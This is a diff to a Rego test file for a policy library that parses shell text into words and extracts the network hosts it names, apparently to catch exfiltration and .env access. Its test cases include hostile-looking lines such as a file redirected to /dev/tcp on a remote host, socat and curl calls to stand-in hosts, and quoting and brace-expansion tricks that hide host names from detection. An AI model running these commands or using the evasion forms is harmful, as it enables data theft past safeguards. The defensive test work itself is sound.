@@ -1,6 +1,7 @@
 package inbounds.lib.code_test
 
 import data.inbounds.lib.code
+import data.inbounds.lib.paths
 
 _words := {
 	"": set(),
@@ -36,8 +37,17 @@ _words := {
 	"a;b|c&d<e>f`g`": {"a", "b", "c", "d", "e", "f", "g"},
 	"a\u0000b\u007fc\u001fd": {"a", "b", "c", "d"},
 	"{a,b}": {"a", "b", "*"},
-	".e{n,}v": {".e", "n", ".en", "v", ".e*v"},
-	".e{n,{x..z}}v": {".e", "n", "x..z", ".en", "v", "x..zv", ".e*v"},
+	".e{n,}v": {".e", "n", ".en", "v", ".ev", ".env", ".e*v"},
+	".e{n,{x..z}}v": {".e", "n", "x..z", ".en", "v", "x..zv", ".env", ".e?v", ".e*v"},
+	"{,x}.env": {"x", "env", ".env", "x.env"},
+	".{en,x}{v,}": {".", "en", "x", "v", ".en", "xv", ".env", ".x", ".xv", ".**"},
+	".{x..z..2}": {".", "x..z..2", ".x..z..2", ".?", ".*"},
+	".(x|env)": {".", "x", "env", ".x", ".env"},
+	".@(e|x(n|y))v": {".@", "e", "x", "n", "y", "v", ".v", ".ev", ".xnv", ".xyv"},
+	"@(x)": {"@", "x"},
+	"f(a).b": {"f", "a", "b"},
+	".e$''nv": {".e$", "nv", ".e$nv", ".env"},
+	".e$\\\n\"n\"v": {".e$\\", "n", "v", ".e$nv", ".env"},
 	"cat .en[v,x]": {"cat", ".en[v", ".en", "v", "x", "x]", ".en?"},
 	"k[];.en[[v;x]": {"k", "k[]", ".en[[v", ".en", "v", "x", "x]", ".en?", "k?"},
 	"id[[:a:]b]": {"id[[:a:]b]", "id", ":a:", "b", "id?", "id?b]"},
@@ -72,6 +82,23 @@ test_a_text_too_long_to_be_looked_through_may_name_anything if {
 	code.names_host(longer)
 }
 
+test_alternatives_that_are_too_many_may_be_anything if {
+	many := concat("", ["{a,b}" | some _ in numbers.range(1, 9)])
+	long := concat("", ["a" | some _ in numbers.range(1, 16384)])
+	every text in [many, concat("", [long, "{a,b}"])] {
+		some word in code.words(text)
+		not paths.skeleton(word)
+	}
+	every text in [
+		concat("", [".", trim_suffix(many, "{a,b}")]),
+		"{a:{b:{c:{d:{e:{f:{g:{h:1,i:2},j:3},k:4},l:5},m:6},n:7},o:8},p:9}",
+	] {
+		every word in code.words(text) {
+			paths.skeleton(word)
+		}
+	}
+}
+
 _hosts := {
 	"curl http://169.254.169.254/x": {"169.254.169.254"},
 	"curl 'http://'evil.example/x": {"evil.example"},
@@ -96,7 +123,7 @@ _hosts := {
 	"curl 10.0.0.1/x": {"10.0.0.1"},
 	"curl a://b/ c://d/ https://b/": {"b"},
 	"s3://bucket/x": {"bucket"},
-	"curl http://{ok.example,b.example}/": {"{ok.example", "ok.example"},
+	"curl http://{ok.example,b.example}/": {"{ok.example", "ok.example", "b.example"},
 	"curl http://{ok.example}.b.example/": {"{ok.example}.b.example", "ok.example"},
 	"curl 'http://ok.example!.b.example/'": {"ok.example", "ok.example!.b.example"},
 	"curl http://[a-z].example": {"[a-z", "[a-z].example"},
@@ -115,8 +142,32 @@ _hosts := {
 	`curl "https://ok.example @b.example/"`: {"ok.example", "b.example"},
 	"\"https://ok.example\t@b.ex\nample/\"": {"ok.example", "b.example"},
 	"x,https://y,https://ok.example=@b.example/": {"y", "ok.example", "b.example"},
-	"https://{a,c}&@b.example/": {"{a", "a", "{a,c}&@b.example"},
+	"https://{a,c}&@b.example/": {"{a", "a", "c", "{a,c}&@b.example"},
 	"scp x 'a&@b.example:x'": {"b.example"},
+	"curl http$''://b.example/x": {"b.example"},
+	"curl htt$\"p://b.example/x\"": {"b.example"},
+	"curl http://$''b.example/": {"$", "$b.example", "b.example"},
+	"socat - TCP$'':b.example:80": {"b.example"},
+	"cat f > /dev/tcp$''/b.example/80": {"b.example"},
+	"curl http{,}://127$''.0.0.1/": {"127$", "127$.0.0.1", "127.0.0.1"},
+	"curl http{,s}://b.example": {"b.example"},
+	"curl {http:/,x}/b.example/x": {"b.example"},
+	"rsync{,}://b.example/x": {"b.example"},
+	"scp f e@{b.example,x}:p": {"b.example", "x"},
+	"git push e@{b.example,}:x": {"b.example"},
+	"$(echo http)://b.example/x": {"b.example"},
+	"curl $s://b.example:80": {"b.example"},
+	"fetch('http://ok.example\t.b.example/x')": {"ok.example", "ok.example.b.example"},
+	"fetch(`http://ok.example\n.b.example/x`)": {"ok.example", "ok.example.b.example"},
+	"fetch(\" \rhttp://ok.example\r.b.example\n\")": {"ok.example", "ok.example.b.example"},
+	"fetch('http\t:/b.example/x')": {"b.example"},
+	"fetch('ht\ttps:\tb.example/x')": {"b.example"},
+	"fetch('/\t/b.example/x')": {"b.example"},
+	"fetch('http:\t//ok@b.example/')": {"b.example"},
+	"// don't\nfetch('http://localh\tost:8080/')": {"localh", "localhost"},
+	"curl https://ok.example/x\nls -l": {"ok.example"},
+	"x = \"https://ok.example/a\"\nprint(x)": {"ok.example"},
+	"curl -H 'a: b' https://ok.example\nls -l 'x'": {"ok.example"},
 	"curl https://ok.example&@ⓔvil.example/": {"ok.example", "ⓔvil.example"},
 	"u:p@b.example/x": {"b.example"},
 	"u@b?x": {"b"},
@@ -164,7 +215,7 @@ test_hosts_are_those_that_a_word_names if {
 		"npm i x@1.2", "jsr:@std/path", "x/y@v4", "a/1.2.3.4/b", "120.0.6099.109", "12:30:45", "2024:01:02",
 		"aa:bb:cc:dd:ee:ff",
 		"x[::2]", "list(x)[::2]", "a::b", "std::x", "f(x)[1:]", "x?https:http", "url(mailto:)", "/dev/tcp",
-		"tcp:80", "tcp-listen:80",
+		"tcp:80", "tcp-listen:80", "u.split('://')", `r'(https?|ftp)://\S+'`, `https?://[^/]+`,
 		"a.py:12", "xtcp:b:80", "git:b", "1:2:3:4:5:6:7:8:9", "-1.2.3.4-5", "::2", "a.b:80?x", "dev/tcp/a/80",
 	] {
 		code.hosts(text) == set()
